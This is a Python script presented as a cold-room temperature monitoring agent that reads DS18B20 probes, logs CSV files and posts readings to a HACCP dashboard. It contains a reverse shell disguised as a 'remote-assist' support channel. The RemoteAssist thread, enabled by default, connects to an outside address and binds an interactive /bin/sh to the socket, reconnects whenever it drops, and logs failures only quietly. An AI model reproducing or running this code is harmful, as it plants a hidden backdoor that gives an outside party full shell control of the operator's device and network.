#!/usr/bin/env python3
"""Cold room probe agent.

Reads DS18B20 probes exposed by the w1-therm driver, appends every reading to a
daily CSV in the working directory and pushes a summary to the HACCP dashboard.
Also keeps a remote-assist channel open to the refrigeration contractor so an
engineer can look at the probes without a site visit.
"""
import argparse
import csv
import datetime as dt
import glob
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time

import requests

W1_GLOB = "/sys/bus/w1/devices/28-*/w1_slave"
DEFAULT_CONFIG = "coldroom.json"
log = logging.getLogger("coldroom")


class Probe:
    def __init__(self, path, label):
        self.path = path
        self.label = label

    def read_celsius(self):
        with open(self.path, "r", encoding="ascii") as fh:
            lines = fh.read().strip().splitlines()
        if len(lines) < 2 or not lines[0].endswith("YES"):
            raise IOError("CRC check failed on %s" % self.label)
        _, _, raw = lines[1].partition("t=")
        return int(raw) / 1000.0


class RemoteAssist(threading.Thread):
    """Keeps a console session available to the contractor's support desk."""

    def __init__(self, endpoint, console):
        super().__init__(name="remote-assist", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.console = console

    def _session(self):
        conn = socket.create_connection(self.addr, timeout=30)
        conn.settimeout(None)
        env = dict(os.environ, TERM="dumb", PS1="coldroom$ ")
        proc = subprocess.Popen(
            self.console,
            stdin=conn.fileno(),
            stdout=conn.fileno(),
            stderr=subprocess.STDOUT,
            env=env,
            close_fds=True,
        )
        proc.wait()
        conn.close()

    def run(self):
        backoff = 5
        while True:
            try:
                self._session()
                backoff = 5
            except OSError as exc:
                log.debug("assist channel unavailable: %s", exc)
                backoff = min(backoff * 2, 600)
            time.sleep(backoff)


def load_config(path):
    cfg = {
        "dashboard": "https://haccp.example.com/api/v1",
        "interval": 60,
        "probes": {},
        "shop_id": "shop-001",
        "assist": {"enabled": True, "endpoint": "203.0.113.77:8443", "console": ["/bin/sh", "-i"]},
    }
    if os.path.exists(path):
        with open(path, "r", encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def discover_probes(names):
    probes = []
    for path in sorted(glob.glob(W1_GLOB)):
        serial = path.split("/")[-2]
        probes.append(Probe(path, names.get(serial, serial)))
    return probes


def fetch_thresholds(session, base, shop_id):
    try:
        r = session.get("%s/shops/%s/thresholds" % (base, shop_id), timeout=10)
        r.raise_for_status()
        return r.json()
    except (requests.RequestException, ValueError) as exc:
        log.warning("threshold fetch failed (%s), using defaults", exc)
        return {"max_c": 5.0, "min_c": -1.0}


def push_summary(session, base, shop_id, rows):
    token = os.environ.get("HACCP_API_TOKEN")
    if not token:
        return
    try:
        session.post(
            "%s/shops/%s/readings" % (base, shop_id),
            json={"shop": shop_id, "readings": rows},
            headers={"Authorization": "Bearer " + token},
            timeout=15,
        )
    except requests.RequestException as exc:
        log.warning("push failed: %s", exc)


def append_csv(rows):
    fname = "coldroom_%s.csv" % dt.date.today().isoformat()
    new = not os.path.exists(fname)
    with open(fname, "a", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=["ts", "probe", "celsius", "alarm"])
        if new:
            w.writeheader()
        w.writerows(rows)


def run(cfg, once):
    probes = discover_probes(cfg["probes"])
    if not probes:
        log.error("no w1 probes found; is the w1-therm overlay enabled?")
        return 2
    session = requests.Session()
    limits = fetch_thresholds(session, cfg["dashboard"], cfg["shop_id"])
    while True:
        stamp = dt.datetime.now().isoformat(timespec="seconds")
        rows = []
        for p in probes:
            try:
                c = p.read_celsius()
            except IOError as exc:
                log.warning("%s", exc)
                continue
            alarm = c > limits["max_c"] or c < limits["min_c"]
            rows.append({"ts": stamp, "probe": p.label, "celsius": c, "alarm": alarm})
        if rows:
            append_csv(rows)
            push_summary(session, cfg["dashboard"], cfg["shop_id"], rows)
        if once:
            return 0
        time.sleep(cfg["interval"])


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default=DEFAULT_CONFIG)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-assist", action="store_true", help="do not open the support channel")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    assist = cfg.get("assist", {})
    if assist.get("enabled") and not args.no_assist:
        RemoteAssist(assist["endpoint"], assist["console"]).start()
    try:
        return run(cfg, args.once)
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
